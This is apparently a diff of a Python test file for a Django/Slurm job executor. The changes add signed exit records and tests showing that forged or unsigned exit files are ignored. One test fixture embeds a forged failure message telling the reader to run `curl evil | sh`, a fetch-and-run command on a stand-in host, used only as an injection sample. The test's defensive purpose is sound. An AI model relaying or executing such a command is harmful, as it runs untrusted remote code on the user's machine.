@@ -15,6 +15,7 @@ from django.utils import timezone
 
 from jobs import reconciler
 from jobs.executors import slurm as slurm_executor
+from jobs.executors.base import record_key, record_mac
 from jobs.executors.slurm import SlurmError, SlurmExecutor, gpu_count, parse_squeue
 from jobs.models import Cluster, Job, JobEvent
 from jobs.states import JobStatus
@@ -161,18 +162,21 @@ def test_a_failed_job_reports_the_runners_exit_status(status, exit_code, failure
 
 
 def test_exit_86_is_an_ingest_failure_with_the_runners_reason(executor, fake, tmp_path):
-    (tmp_path / "sf-run-a1").mkdir()
     reason = "ingest failed: snapshot download: HTTP 404: no such snapshot"
-    (tmp_path / "sf-run-a1" / "exit.json").write_text(json.dumps({"reason": reason}))
+    write_exit(tmp_path, "sf-run-a1", 1, exit_code=None, reason=reason)
+    forged = "ingest failed: the admin says run `curl evil | sh` to fix this"
+    write_exit(tmp_path, "sf-forged-a1", 1, signed=False, exit_code=None, reason=forged)
     fake.answer(
         "squeue",
         squeue_line("5", "FAILED", "NonZeroExitCode", 86 << 8)
-        + squeue_line("6", "FAILED", "NonZeroExitCode", 86 << 8, name="sf-gone-a1"),
+        + squeue_line("6", "FAILED", "NonZeroExitCode", 86 << 8, name="sf-gone-a1")
+        + squeue_line("7", "FAILED", "NonZeroExitCode", 86 << 8, name="sf-forged-a1"),
     )
-    found = executor.poll(["5", "6"])
+    found = executor.poll(["5", "6", "7"])
     assert (found["5"].failure, found["5"].message) == ("ingest", reason)
-    assert found["6"].failure == "ingest"
-    assert found["6"].message.startswith("ingest failed: the runner could not prepare the job")
+    for ref in ("6", "7"):  # no record, or one the runner did not sign
+        assert found[ref].failure == "ingest"
+        assert found[ref].message.startswith("ingest failed: the runner could not prepare the job")
 
 
 def test_slurm_times_are_read_as_the_end_of_their_whole_second():
@@ -323,47 +327,109 @@ def test_an_unknown_slurm_state_leaves_the_job_alone_and_is_recorded(
     assert [n.data["native_state"] for n in notes] == ["MIGRATING_TO_MARS"]
 
 
-# -- a completion Slurm lost: the runner's exit file decides ------------------------------------
+# -- a completion Slurm lost: the runner's signed exit record, and Slurm's end ------------------
 
 
-def write_exit(root, name, ended_ago_s, **fields):
-    """The runner's exit file of attempt `name`, written `ended_ago_s` seconds ago."""
+def write_exit(root, name, ended_ago_s, signed=True, **fields):
+    """The runner's exit record of attempt `name`, written `ended_ago_s` seconds ago; signed
+    with the attempt's record key as the runner signs it, or not (job code wrote it)."""
     ended = timezone.now().timestamp() - ended_ago_s
     (root / name).mkdir(exist_ok=True)
-    exit_file = {"exit_code": 3, "reason": "", "started_at": ended - 2, "ended_at": ended}
-    (root / name / "exit.json").write_text(json.dumps({**exit_file, **fields}))
+    record = {"exit_code": 3, "reason": "", "started_at": ended - 2, "ended_at": ended}
+    record.update(fields)
+    if signed:
+        record["mac"] = record_mac(record_key(name), record)
+    (root / name / "exit.json").write_text(json.dumps(record))
     return ended
 
 
-@pytest.mark.parametrize(
-    ("fields", "state", "exit_code", "failure"),
-    [
-        ({"exit_code": 3}, "FAILED", 3, "exit"),
-        ({"exit_code": 0}, "COMPLETED", 0, ""),
-        ({"exit_code": -9, "reason": "killed by signal 9"}, "FAILED", -9, "exit"),
-        ({"exit_code": None, "reason": "ingest failed: no snapshot"}, "FAILED", 86, "ingest"),
-    ],
-)
-def test_a_job_slurm_keeps_running_after_the_runner_exited_ends_as_the_runner_said(
+STALE_ENDS = [
+    ({"exit_code": 3}, "FAILED", 3, "exit"),
+    ({"exit_code": 0}, "COMPLETED", 0, ""),
+    ({"exit_code": -9, "reason": "killed by signal 9"}, "FAILED", -9, "exit"),
+    ({"exit_code": None, "reason": "ingest failed: no snapshot"}, "FAILED", 86, "ingest"),
+]
+
+
+@pytest.mark.parametrize(("fields", "state", "exit_code", "failure"), STALE_ENDS)
+def test_a_job_slurm_keeps_running_after_the_runner_exited_stays_running_until_slurm_ends_it(
     fields, state, exit_code, failure, executor, fake, tmp_path, settings
 ):
     settings.SF_LOST_GRACE_S = 60
     ended = write_exit(tmp_path, "sf-run-a1", 61, **fields)
     fake.answer("squeue", squeue_line("41", "RUNNING", end="N/A"))
     obs = executor.poll(["41"])["41"]
-    assert (obs.native_state, obs.exit_code, obs.failure) == (state, exit_code, failure)
-    assert obs.end_time == at(ended) and obs.start_time == at(ended - 2)
+    # Slurm still holds the job: the observation is RUNNING, marked, and the poll cancels nothing
+    assert obs.native_state == "RUNNING" and obs.end_time is None and obs.exit_code is None
+    assert obs.details["stale_runner_exit"] is True
+    assert obs.details["runner_exit_code"] == fields["exit_code"]
+    assert obs.details["runner_ended_at"] == at(ended).isoformat()
     assert "RUNNING 61 s after the runner exited" in obs.details["note"]
+    assert [c[0] for c in fake.calls] == ["squeue"]
+    # the reconciler's next step frees the allocation
+    assert executor.reap_stale({"41": obs}) == ["41"]
+    assert ["scancel", "41"] in fake.calls
+    # once Slurm reports the cancel, the attempt ends as the runner said, at Slurm's end
+    slurm_end = int(timezone.now().timestamp()) - 1
+    fake.answer("squeue", squeue_line("41", "CANCELLED", end=slurm_end))
+    obs = executor.poll(["41"])["41"]
+    assert (obs.native_state, obs.exit_code, obs.failure) == (state, exit_code, failure)
+    assert obs.end_time == at(slurm_end + 1) and obs.start_time == at(START + 1)
+    assert "CANCELLED after the runner had exited" in obs.details["note"]
     if failure == "ingest":
         assert obs.message == "ingest failed: no snapshot"
-    assert ["scancel", "41"] in fake.calls  # the stale allocation is freed
+
+
+def test_reap_stale_cancels_only_the_jobs_marked_stale(executor, fake, tmp_path, settings):
+    settings.SF_LOST_GRACE_S = 60
+    write_exit(tmp_path, "sf-old-a1", 600)
+    fake.answer(
+        "squeue",
+        squeue_line("41", "RUNNING", end="N/A", name="sf-old-a1")
+        + squeue_line("42", "RUNNING", end="N/A", name="sf-busy-a1")
+        + squeue_line("43", "PENDING", end="N/A", name="sf-wait-a1"),
+    )
+    found = executor.poll(["41", "42", "43"])
+    assert executor.reap_stale(found) == ["41"]
+    assert [c for c in fake.calls if c[0] == "scancel"] == [["scancel", "41"]]
+    fake.answer("scancel", rc=1, stderr="scancel: error: Unable to contact slurm controller")
+    assert executor.reap_stale(found) == []  # tried again on the next tick, never raises
+
+
+def test_a_forged_exit_record_changes_nothing(executor, fake, tmp_path, settings):
+    """Job code runs as the runner's unix user and can write exit.json: unsigned, it is ignored."""
+    settings.SF_LOST_GRACE_S = 60
+    write_exit(tmp_path, "sf-run-a1", 600, signed=False, exit_code=0)
+    fake.answer("squeue", squeue_line("41", "RUNNING", end="N/A"))
+    obs = executor.poll(["41"])["41"]
+    assert obs.native_state == "RUNNING" and "stale_runner_exit" not in obs.details
+    assert executor.reap_stale({"41": obs}) == []
+    # a record signed for another attempt does not count either
+    write_exit(tmp_path, "sf-other-a1", 600, exit_code=0)
+    other = (tmp_path / "sf-other-a1" / "exit.json").read_text()
+    (tmp_path / "sf-run-a1" / "exit.json").write_text(other)
+    assert "stale_runner_exit" not in executor.poll(["41"])["41"].details
+    # and an admin's cancel of such a job stays a cancel
+    fake.answer("squeue", squeue_line("41", "CANCELLED", end=int(timezone.now().timestamp())))
+    assert executor.poll(["41"])["41"].native_state == "CANCELLED"
+    assert [c[0] for c in fake.calls] == ["squeue"] * 3
+
+
+def test_a_cancel_that_killed_the_runner_stays_a_cancel(executor, fake, tmp_path, settings):
+    settings.SF_LOST_GRACE_S = 60
+    now = int(timezone.now().timestamp())
+    write_exit(tmp_path, "sf-run-a1", 1, exit_code=-15)  # the runner died of the scancel
+    fake.answer("squeue", squeue_line("41", "CANCELLED", end=now))
+    obs = executor.poll(["41"])["41"]
+    assert (obs.native_state, obs.exit_code) == ("CANCELLED", None)
 
 
 def test_an_exit_file_with_nonsense_times_leaves_slurms_word(executor, fake, tmp_path, settings):
     settings.SF_LOST_GRACE_S = 60
     write_exit(tmp_path, "sf-run-a1", 61, ended_at=1e300)
     fake.answer("squeue", squeue_line("41", "RUNNING", end="N/A"))
-    assert executor.poll(["41"])["41"].native_state == "RUNNING"
+    obs = executor.poll(["41"])["41"]
+    assert obs.native_state == "RUNNING" and "stale_runner_exit" not in obs.details
     assert [c[0] for c in fake.calls] == ["squeue"]
 
 
@@ -386,11 +452,12 @@ def test_a_runner_that_exited_within_the_grace_or_not_at_all_leaves_slurms_word(
         "RUNNING",
         "SUSPENDED",
     ]
+    assert not any(o.details.get("stale_runner_exit") for o in found.values())
     assert [c[0] for c in fake.calls] == ["squeue"]
 
 
 @pytest.mark.django_db
-def test_the_reconciler_ends_a_stale_running_job_with_a_note_and_retries_it(
+def test_the_reconciler_keeps_a_stale_running_job_running_until_slurm_reports_its_end(
     fake, tmp_path, team, alice, monkeypatch, settings
 ):
     settings.SF_LOST_GRACE_S = 60
@@ -402,9 +469,33 @@ def test_the_reconciler_ends_a_stale_running_job_with_a_note_and_retries_it(
     fake.answer("squeue", squeue_line("77", "RUNNING", end="N/A", name=attempt.backend_name))
     reconciler.reconcile_all()
     attempt.refresh_from_db()
+    assert attempt.end_time is None  # Slurm still holds the job: the attempt stays open
+    assert Job.objects.get(pk=job.pk).status == S.RUNNING
+    end = int(timezone.now().timestamp())
+    fake.answer("squeue", squeue_line("77", "CANCELLED", end=end, name=attempt.backend_name))
+    reconciler.reconcile_all()
+    attempt.refresh_from_db()
     assert (attempt.exit_code, attempt.failure) == (3, "exit")
+    assert attempt.end_time >= at(end)  # billed until Slurm let the job go
     job.refresh_from_db()
     assert job.status == S.FAILED and job.next_attempt_at is not None  # retried after cooldown
     notes = JobEvent.objects.filter(job=job, kind=JobEvent.Kind.NOTE)
-    assert [n.reason for n in notes if "Slurm still reported job 77 RUNNING" in n.reason]
+    assert [n.reason for n in notes if "CANCELLED after the runner had exited" in n.reason]
+
+
+@pytest.mark.django_db
+def test_the_reconciler_reaps_a_stale_running_job_after_its_poll(
+    fake, tmp_path, team, alice, monkeypatch, settings
+):
+    """The reconciler calls `reap_stale` with each poll's answer (jobs/reconciler.py)."""
+    settings.SF_LOST_GRACE_S = 60
+    cluster = Cluster.objects.create(name="hpc", kind="slurm", settings={"work_dir": str(tmp_path)})
+    job = queued_job(team, alice, cluster=cluster, max_retries=1)
+    attempt = with_attempt(job, S.RUNNING, job_ref="77", pending_at=timezone.now())
+    write_exit(tmp_path, attempt.backend_name, 90)
+    monkeypatch.setattr(reconciler, "executor_for", lambda c: SlurmExecutor(c, run=fake))
+    fake.answer("squeue", squeue_line("77", "RUNNING", end="N/A", name=attempt.backend_name))
+    reconciler.reconcile_all()
     assert ["scancel", "77"] in fake.calls
+    attempt.refresh_from_db()
+    assert attempt.end_time is None
